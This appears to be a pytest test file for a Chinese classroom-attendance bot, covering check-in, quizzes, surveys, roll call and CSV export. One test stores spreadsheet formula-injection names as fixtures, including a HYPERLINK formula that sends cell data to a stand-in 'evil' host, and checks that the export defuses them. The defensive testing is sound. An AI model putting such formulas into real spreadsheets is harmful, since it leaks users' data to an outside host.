"""The whole lesson: attendance statuses, every activity type, results, records, export, roll call."""

from __future__ import annotations

import csv
import io
import re

import pytest

from bot.database import is_sqlite
from handlers.attendance import close_roll_calls
from handlers.records import spreadsheet_safe
from models import Outbox, RollCall, User
from tests.conftest import simulator_for

ROSTER = "student_no,name,auth_code\n" + "".join(f"20240{i:02d},学生{i},c{i}\n" for i in range(1, 7))


@pytest.fixture
def klass(app, tmp_path, say):
    """A teacher's class of six verified students (o_s1..o_s6 = 2024001..2024006)."""
    path = tmp_path / "roster.csv"
    path.write_text(ROSTER, encoding="utf-8")
    runner = app.test_cli_runner()
    assert runner.invoke(args=["import-roster", "示范大学", str(path)]).exit_code == 0
    assert runner.invoke(args=["make-teacher", "o_t", "--school", "示范大学"]).exit_code == 0
    code = re.search(r"课堂码：(\d{6})", say("o_t", "创建课堂 概率论")).group(1)
    for i in range(1, 7):
        say(f"o_s{i}", f"认证 示范大学 20240{i:02d} 学生{i} c{i}")
        assert "已加入" in say(f"o_s{i}", f"加入 {code}")
    return code


def export_rows(client, reply):
    path = re.search(r"https://ketang.example.edu(/export/\S+\.csv)", reply).group(1)
    response = client.get(path)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.startswith("\ufeff".encode())  # BOM: Excel opens it as UTF-8
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")))), path


def test_a_lesson_with_every_activity_type(app, klass, clock, client):
    wx = simulator_for(app)
    t = "o_t"
    assert "已通知 6 名学生" in wx.send_text(t, "上课")

    # Check-in: on time, exactly at the deadline, late during an extension, excused by hand, absent.
    assert "08:02 截止" in wx.send_text(t, "开启签到 2")
    assert "签到成功" in wx.send_text("o_s1", "签到")
    clock.advance(minutes=2)
    assert "签到成功" in wx.send_text("o_s2", "签到")  # exactly at the deadline
    assert "延长到 08:05" in wx.send_text(t, "延长 3")  # still open: past its deadline nothing extends it (test_deadline)
    clock.advance(seconds=1)
    assert "迟到" in wx.send_text("o_s3", "签到")
    assert "改为「请假」" in wx.send_text(t, "改签 2024004 请假")
    assert "老师已将你" in wx.send_text("o_s4", "签到")
    assert "is now “present”" in wx.send_text(t, "mark 2024005 present")
    report = wx.send_text(t, "签到情况")
    assert "应到 6：已到 3，迟到 1，请假 1，未到 1" in report and "2024006 学生6" in report

    # Single choice, multiple choice (any order), true/false, fill-in.
    clock.advance(minutes=5)
    wx.send_text(t, "练习 B 2 1+1=? A.1 B.2 C.3")
    wx.send_text("o_s1", "答 b")
    wx.send_text("o_s2", "答 A")
    clock.advance(minutes=3)
    assert "多选题已发布" in wx.send_text(t, "练习 CA 2 哪些是质数？A.2 B.4 C.5")
    assert "已提交答案 AC" in wx.send_text("o_s1", "答 CA")
    assert "已提交答案 A" in wx.send_text("o_s2", "答 A")
    assert "多选题" in wx.send_text("o_s3", "答 AD")
    clock.advance(minutes=3)
    assert "判断题已发布" in wx.send_text(t, "练习 错 2 太阳绕地球转")
    assert "已提交答案 错" in wx.send_text("o_s1", "答 ×")
    assert "已提交答案 对" in wx.send_text("o_s2", "答 T")
    clock.advance(minutes=3)
    assert "填空题已发布" in wx.send_text(t, "练习 =北京/Peking 2 中国的首都？")
    assert "已提交答案 peking" in wx.send_text("o_s1", "答 ｐｅｋｉｎｇ")  # width folded, case-insensitive
    wx.send_text("o_s2", "答 上海")
    fill = wx.send_text(t, "结果")
    assert re.search(r"^peking █+ 1 ✓$", fill, re.M) and re.search(r"^上海 █+ 1$", fill, re.M)

    # A survey (anonymous counts), a discussion, lost signals, a roll call.
    clock.advance(minutes=3)
    assert "问卷已发布" in wx.send_text(t, "问卷 3 2 节奏？A.快 B.好 C.慢")
    assert "匿名" in wx.send_text("o_s1", "答 A")
    wx.send_text("o_s2", "答 A")
    survey = wx.send_text(t, "结果")
    assert "问卷结果" in survey and re.search(r"^A █+ 2$", survey, re.M) and "学生1" not in survey
    assert "讨论已开始" in wx.send_text(t, "讨论 5 举一个条件概率的例子")
    assert "已发言" in wx.send_text("o_s1", "发言 下雨时带伞的概率")
    assert "学生1：下雨时带伞的概率" in wx.send_text(t, "结果")
    assert "匿名" in wx.send_text("o_s2", "不懂 贝叶斯那步")
    wx.send_text("o_s3", "不懂")
    lost = wx.send_text(t, "不懂情况")
    assert "2 人，共 2 次" in lost and "贝叶斯那步" in lost and "学生2" not in lost
    called = wx.send_text(t, "点名 2")
    picked = [o for o in Outbox.select().where(Outbox.kind == "roll_call")]
    assert len(picked) == 2 and "点名：" in called
    assert "未开启推送" in called and "请当面点名" in called  # this test app has no app_secret
    first, second = picked[0].user.openid, picked[1].user.openid
    assert {first, second} <= {"o_s1", "o_s2", "o_s3", "o_s5"}  # present or late, never excused or absent
    assert "已应答" in wx.send_text(first, "到")
    clock.advance(minutes=2, seconds=1)
    assert "已于" in wx.send_text(second, "到")
    report = wx.send_text(t, "点名情况")
    assert "✓" in report and "✗ 未应答" in report
    assert "现在没有点到你的名" in wx.send_text("o_s6", "到")
    # The scheduler closes the window and tells the teacher, once, even if it runs again.
    assert close_roll_calls(clock()) == 2 and close_roll_calls(clock()) == 0
    result = Outbox.get(Outbox.kind == "roll_call_result")
    assert result.user.openid == t and "2 人中 1 人应答" in result.text
    assert f"未应答：{User.get(User.openid == second).name}" in result.text

    # Results of an earlier activity by number, then the end of the lesson and the records.
    assert "答对 1 人" in wx.send_text(t, "结果 2") and "共 7 个活动" in wx.send_text(t, "结果 2")
    assert "已下课" in wx.send_text(t, "下课")
    summary = Outbox.get((Outbox.kind == "lesson_summary") & (Outbox.user == User.get(User.openid == "o_s1"))).text
    assert "签到：已到；练习：答对 4/4 题" in summary  # o_s1 answered every quiz right
    record = wx.send_text("o_s3", "我的记录")
    assert "「概率论」已到 0 · 迟到 1 · 请假 0 · 缺勤 0 · 练习答对 0/4" in record

    rows, _ = export_rows(client, wx.send_text(t, "导出"))
    header, by_no = rows[0], {row[1]: row for row in rows[1:]}
    assert header[:4] == ["学生", "学号", "姓名", "认证"] and header[-10:] == [
        "平时成绩", "出勤", "练习", "参与", "补签", "已到", "迟到", "请假", "缺勤", "答对/题数"]
    assert by_no["2024001"][4:6] == ["已到", "4/4"]
    assert by_no["2024003"][4] == "迟到"
    assert by_no["2024004"][4] == "请假（老师改签）"  # manual marks are visible in the export
    assert by_no["2024005"][4] == "已到（老师改签）"
    assert by_no["2024006"][4] == "缺勤" and by_no["2024006"][-1] == "0/4"


def test_correctness_never_leaks_before_close(say, klass, clock):
    say("o_t", "上课")
    for key, student_answer in (("B", "B"), ("AC", "CA"), ("对", "对"), ("=巴黎", "巴黎")):
        say("o_t", f"练习 {key} 1 题目 A.x B.y C.z")
        reply = say("o_s1", f"答 {student_answer}")
        assert "已提交答案" in reply and "正确" not in reply.replace("正确答案", "") and "错误" not in reply
        again = say("o_s1", f"答 {student_answer}")
        assert "正确" not in again.replace("正确答案", "") and "错误" not in again
        clock.advance(minutes=1, seconds=1)
        closed = say("o_s1", f"答 {student_answer}")
        assert "已于" in closed and "正确（正确答案" in closed
        clock.advance(minutes=1)


def test_a_late_joiner_is_not_counted_absent(say, klass, clock, client):
    say("o_t", "上课")
    say("o_t", "开启签到 1")
    say("o_s1", "签到")
    clock.advance(minutes=5)
    assert "已加入" in say("o_new", f"加入 {klass}")
    say("o_new", "取消")
    report = say("o_t", "签到情况")
    assert "应到 6：" in report and "未实名" not in report
    say("o_t", "下课")
    rows, _ = export_rows(client, say("o_t", "导出"))
    newcomer = [row for row in rows[1:] if row[1] == ""][0]
    assert newcomer[0].startswith("未实名(") and newcomer[4] == "—"  # labelled; not counted, not absent


def test_export_link_expired_or_tampered_is_refused(say, klass, clock, client):
    reply = say("o_t", "导出")
    _, path = export_rows(client, reply)
    token = path[len("/export/"):-len(".csv")]
    assert client.get(f"/export/{token[:-2]}xx.csv").status_code == 403
    other_class = say("o_t", "创建课堂 别的课")
    assert "已创建" in other_class
    assert client.get("/export/" + token.replace(token.split(".")[0], "WzEsMV0") + ".csv").status_code == 403
    clock.advance(hours=1, seconds=1)
    assert client.get(path).status_code == 403


def test_extension_edge_and_one_roll_call_per_student(say, klass, clock):
    say("o_t", "上课")
    say("o_t", "开启签到 1")
    clock.advance(minutes=1)
    assert "签到成功" in say("o_s1", "签到")
    say("o_t", "延长 1")
    clock.advance(seconds=30)
    assert "迟到" in say("o_s2", "签到")
    for _ in range(2):
        say("o_t", "点名")
    assert "都被点过名了" in say("o_t", "点名")
    assert RollCall.select().count() == 2


def test_leave_a_class(say, klass):
    assert "已退出「概率论」" in say("o_s1", "退出课堂 1")
    assert "你还没有加入课堂" in say("o_s1", "我的课堂")
    assert "名单" in say("o_t", "名单") and "学生1" not in say("o_t", "名单")


def test_export_cells_never_start_a_spreadsheet_formula(say, klass, client, teacher_school_join):
    """Issue 10 item 5: a name written before names were validated, or a number like -1-1, stays text."""
    hostile = {"o_s1": '=HYPERLINK("http://evil/?d="&A3,"成绩")', "o_s2": "@SUM(A1:A9)", "o_s3": "+1+2",
               "o_s4": "\tcmd", "o_s5": "\r=1"}
    for openid, name in hostile.items():
        User.update(name=name).where(User.openid == openid).execute()
    teacher_school_join("o_minus", "-1-1", "李雷")
    say("o_t", "上课")
    say("o_t", "开启签到 5")
    say("o_t", "下课")
    rows, _ = export_rows(client, say("o_t", "导出"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = {row[2] for row in rows[1:]}  # column 0 is the 学生 label, 1 the number
    # Lists show a name on one line, so the tab and CR fold away (and "\r=1" is then "=1").
    assert {"'" + hostile["o_s1"], "'@SUM(A1:A9)", "'+1+2", "cmd", "'=1"} <= names
    assert [spreadsheet_safe(v) for v in ("\tx", "\r=1", "-2", "2024001", 3)] == ["'\tx", "'\r=1", "'-2", "2024001", "3"]
    assert ["李雷", "'-1-1", "李雷"] == [row[:3] for row in rows if row[2] == "李雷"][0]


@pytest.fixture
def teacher_school_join(say, klass):
    """Join the class as *openid* and answer the identity question with *number* and *name*."""
    def join(openid, number, name):
        assert "本课堂属于" in say(openid, f"加入 {klass}")
        assert "姓名" in say(openid, number)
        return say(openid, name)
    return join


def test_one_long_name_never_hides_the_rest_of_a_list(say, klass):
    """Issue 10 item 6: a name stored before validation (700 characters) is cut short in 名单 and 签到情况."""
    User.update(name="长" * (700 if is_sqlite() else 64)).where(User.openid == "o_s1").execute()  # PG: the column's max
    say("o_t", "上课")
    say("o_t", "开启签到 1")
    say("o_t", "结束")
    roster = say("o_t", "名单")
    assert all(f"学生{i}" in roster for i in range(2, 7)) and "还有" not in roster
    assert "长" * 39 + "…" in roster and "长" * 41 not in roster
    report = say("o_t", "签到情况")
    assert all(f"20240{i:02d}" in report for i in range(1, 7)) and "还有" not in report
